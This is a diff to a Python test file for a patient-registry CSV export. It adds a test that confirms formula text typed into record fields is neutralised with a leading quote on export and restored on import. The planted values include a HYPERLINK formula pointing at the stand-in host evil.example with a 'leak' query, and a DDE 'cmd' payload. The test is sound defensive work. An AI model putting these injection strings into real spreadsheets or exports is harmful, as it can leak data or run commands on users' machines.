@@ -10,7 +10,7 @@ from pdva.audit.context import audit_context
 from pdva.audit.models import AuditEntry
 from pdva.exports.importer import import_path
 from pdva.exports.services import ExportRefused, run_export
-from pdva.registry.models import Patient, Procedure, Site
+from pdva.registry.models import Patient, PatientIdentity, Procedure, Site
 from tests.exports.conftest import wipe_registry
 from tests.factories import grant
 
@@ -20,9 +20,35 @@ def _members(path) -> dict[str, bytes]:  # type: ignore[no-untyped-def]
         return {name: zf.read(name) for name in zf.namelist() if name != "manifest.json"}
 
 
+FORMULA_FAMILY_NAME = '=HYPERLINK("http://evil.example/?leak","x")'
+FORMULA_DEVICE_MODEL = "=cmd|' /C calc'!A0"
+
+
+def _plant_formulas(site) -> None:  # type: ignore[no-untyped-def]
+    """Text a spreadsheet would run, typed into a family name and a device model (and a leading quote)."""
+    patient = Patient.objects.filter(site=site, identity__isnull=False).order_by("pk").first()
+    procedure = Procedure.objects.filter(patient__site=site).order_by("pk").first()
+    with audit_context(label="test", reason="formula text"):
+        identity = patient.identity
+        identity.family_name = FORMULA_FAMILY_NAME
+        identity.given_name = "'quoted"
+        identity.save()
+        procedure.device_model = FORMULA_DEVICE_MODEL
+        procedure.device_manufacturer = "-Acme"
+        procedure.save()
+
+
 def test_full_export_round_trips_through_an_empty_registry(cohort, manager, sam, tmp_path):
+    _plant_formulas(cohort[0])
     with audit_context(manager):
         first = run_export("full", manager, tmp_path / "first.zip")
+    with zipfile.ZipFile(first.path) as zf:
+        identities, procedures = (
+            zf.read("patient_identities.csv").decode(),
+            zf.read("procedures.csv").decode(),
+        )
+    assert "'=HYPERLINK(" in identities and "''quoted" in identities
+    assert "'=cmd|" in procedures and "'-Acme" in procedures
     assert first.manifest["identifiers_included"] is True
     assert first.manifest["tables"]["patients"] == Patient.objects.filter(site=cohort[0]).count()
     assert first.manifest["tables"]["procedures"] > 0
@@ -49,6 +75,12 @@ def test_full_export_round_trips_through_an_empty_registry(cohort, manager, sam,
     for name in before:
         assert before[name] == after[name], f"{name} differs after the round trip"
     assert first.manifest["files"] == second.manifest["files"]
+    # The neutralising quotes came off on import: the registry holds the text as typed.
+    names = {(i.family_name, i.given_name) for i in PatientIdentity.objects.all()}
+    assert (FORMULA_FAMILY_NAME, "'quoted") in names
+    assert (
+        Procedure.objects.filter(device_model=FORMULA_DEVICE_MODEL, device_manufacturer="-Acme").count() == 1
+    )
     # Derived values were recomputed on import, and agree.
     assert Procedure.objects.filter(age_at_procedure__isnull=False).exists()
 
